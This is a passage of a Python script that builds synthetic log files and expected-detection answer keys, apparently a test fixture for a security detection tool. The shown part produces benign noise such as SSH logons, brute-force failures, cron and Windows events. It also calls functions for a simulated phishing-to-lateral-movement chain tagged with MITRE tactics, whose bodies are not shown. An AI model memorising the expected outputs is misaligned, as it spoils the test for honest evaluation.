        host, user = rng.choice(["app-01", "app-02", "web-01", "mx-01"]), rng.choice(["ops", "deploy"])
        time, pid = some_time(), rng.randrange(10000, 19999)
        syslog("auth.log", time, host, "sshd", f"Accepted publickey for {user} from "
               f"{ADDRESS['jump-01']} port {rng.randrange(32768, 61000)} ssh2: ED25519 "
               "SHA256:9n1c0QkqTq4rB2", pid)
        syslog("auth.log", later(time, 0.1), host, "sshd",
               f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)", pid)
        if rng.random() < 0.4:
            syslog("auth.log", later(time, 20), host, "sudo", f"    {user} : TTY=pts/0 ; "
                   f"PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx")
        syslog("auth.log", later(time, 300), host, "sshd",
               f"pam_unix(sshd:session): session closed for user {user}", pid)
    for _ in range(45):
        syslog("auth.log", some_time(), "jump-01", "sshd", "Failed password for invalid user "
               f"{rng.choice(['test', 'oracle', 'git', 'ubuntu'])} from 198.51.100."
               f"{rng.randrange(204, 250)} port {rng.randrange(32768, 61000)} ssh2",
               rng.randrange(1800, 9999))
    for hour in range(7, 17):
        for host in ("app-01", "app-02", "web-01"):
            syslog("auth.log", at(f"{hour:02d}:17:01"), host, "CRON",
                   "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", rng.randrange(3000, 9999))


def ordinary_linux():
    commands = [["ls", "-l", "/srv/shop"], ["ps", "aux"], ["systemctl", "status", "nginx"],
                ["df", "-h"], ["tail", "-n", "50", "/var/log/nginx/error.log"],
                ["grep", "-c", "ERROR", "/srv/shop/log/orders.log"], ["git", "pull", "--ff-only"],
                ["rsync", "-a", "/srv/shop/img/", "app-02:/srv/shop/img/"], ["journalctl", "-n", "20"]]
    for _ in range(75):
        audit_command(some_time(), rng.choice(["app-01", "app-02", "web-01", "mx-01"]),
                      rng.choice(commands), rng.randrange(7000, 30000), rng.randrange(2000, 7000), 1001,
                      rng.randrange(2, 40))
    for _ in range(45):
        host, time = rng.choice(["app-01", "app-02"]), some_time()
        process, parent = new_process(host), new_process(host)
        linux_process(time, host, process, parent, "/usr/bin/python3.11",
                      "python3 /srv/shop/jobs/stock_sync.py", "/usr/sbin/cron", "shop")
        linux_connection(later(time, 1), host, process, "/usr/bin/python3.11", ADDRESS["web-01"], 443,
                         user="shop")


def ordinary_windows():
    programs = [(CHROME, f'"{CHROME}"'), (OUTLOOK, f'"{OUTLOOK}"'),
                ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "EXCEL.EXE D:\\stock\\week42.xlsx"),
                (SYSTEM32 + "notepad.exe", "notepad.exe todo.txt"),
                (SYSTEM32 + "svchost.exe", "svchost.exe -k netsvcs -p"),
                (SYSTEM32 + "ipconfig.exe", "ipconfig /all")]
    names = ["www.cloth-news.example", "mail." + SHOP, "cdn.weaver.example", "files." + CORP]
    for _ in range(230):
        host, time = rng.choice(list(OWNER)), some_time()
        process, parent = new_process(host), new_process(host)
        image, command = rng.choice(programs)
        process_start(time, host, process, parent, image, command, "C:\\Windows\\explorer.exe")
        if image == CHROME:
            name_lookup(later(time, 1), host, process, image, rng.choice(names), "192.0.2.160")
            connection(later(time, 1.2), host, process, image, f"192.0.2.{rng.randrange(150, 200)}", 443)
        if rng.random() < 0.3:
            sysmon(later(time, rng.uniform(30, 900)), host, 5, process,
                   {"Image": image, "User": account(host)})
    for _ in range(110):
        host = rng.choice(list(OWNER))
        user, logon, time = OWNER[host], f"0x{rng.randrange(16 ** 6):x}", some_time()
        network_logon(time, "file-01", user, logon, ADDRESS[host])
        security(later(time, 2), "file-01", 5145, {
            "SubjectUserSid": "S-1-5-21-70-71-72-1120", "SubjectUserName": user,
            "SubjectDomainName": "LARCH", "SubjectLogonId": logon, "ObjectType": "File",
            "IpAddress": ADDRESS[host], "IpPort": "50111", "ShareName": "\\\\*\\Projects",
            "ShareLocalPath": "\\??\\D:\\Projects", "RelativeTargetName": "autumn\\plan.xlsx",
            "AccessMask": "0x1", "AccessList": "%%4416\n\t\t\t\t"})
        security(later(time, 0.2), "dc-01", 4769, {
            "TargetUserName": f"{user}@{CORP.upper()}", "TargetDomainName": CORP.upper(),
            "ServiceName": "FILE-01$", "ServiceSid": "S-1-5-21-70-71-72-1201",
            "TicketOptions": "0x40810000", "TicketEncryptionType": "0x12",
            "IpAddress": "::ffff:" + ADDRESS[host], "IpPort": "50112", "Status": "0x0"})


# --- output -----------------------------------------------------------------------------------

def build():
    scout_the_shop()
    blind_the_mail_gateway()
    phish_two_employees()
    implant, image = run_the_lure()
    beacon("ws-mkt-07", implant, image, ("09:46:02", "10:16:03", "10:46:05", "11:16:02", "11:46:07"))
    second, second_image = spread_to_windows(implant, image)
    spread_to_linux(second, second_image)
    flood_the_shop()
    unrelated_detections()
    ordinary_web()
    ordinary_mail()
    ordinary_packets()
    ordinary_logons()
    ordinary_linux()
    ordinary_windows()


TACTICS = [["TA0043"], ["TA0005", "TA0112"], ["TA0001"], ["TA0002"], ["TA0011"], ["TA0008"], ["TA0040"]]
ATTACK_HOSTS = sorted(BOTS + ["mx-01", "web-01"])


def expectations():
    """expected.jsonl and expected-chains.json as text, from the marks."""
    detections, rules = [], {True: set(), False: set()}
    steps = 0
    for name in FILES:
        for number, (_, _, _, paths, in_attack) in enumerate(lines[name], 1):
            for path in paths:
                detections.append({"source": f"events/{name}", "line": number, "rule": rule_id(path)})
                rules[in_attack].add(rule_id(path))
                steps += in_attack
    chain = {"step_count": steps, "hosts": ATTACK_HOSTS, "tactics": ["/".join(t) for t in TACTICS]}
    alone = [{"step_count": 1, "hosts": [host]} for host in ("dc-01", "ws-fin-03", "ws-dev-01")]
    records = detections + [{"chain": content} for content in [chain, *alone]]
    chains = {"chains": [{"hosts": ATTACK_HOSTS, "tactics_in_order": TACTICS, "steps": steps,
                          "rules_in": sorted(rules[True]), "rules_out": sorted(rules[False])}]}
    assert not rules[True] & rules[False]
    return ("".join(json.dumps(record) + "\n" for record in records), json.dumps(chains, indent=2) + "\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--check", action="store_true")
    options = parser.parse_args()
    build()
    output = {}
    for name in FILES:
        lines[name].sort(key=lambda line: line[:2])
        output[f"events/{name}"] = "".join(line[2] + "\n" for line in lines[name])
    output["expected.jsonl"], output["expected-chains.json"] = expectations()
    differs = [name for name, text in output.items()
               if not (HERE / name).exists() or (HERE / name).read_text(encoding="utf-8") != text]
    if options.check:
        for name in differs:
            print(f"differs: {name}")
        return 1 if differs else 0
    (HERE / "events").mkdir(exist_ok=True)
    for name in differs:
        (HERE / name).write_text(output[name], encoding="utf-8")
    print(f"{sum(map(len, lines.values()))} events, {len(differs)} files written")
    return 0


if __name__ == "__main__":
    sys.exit(main())
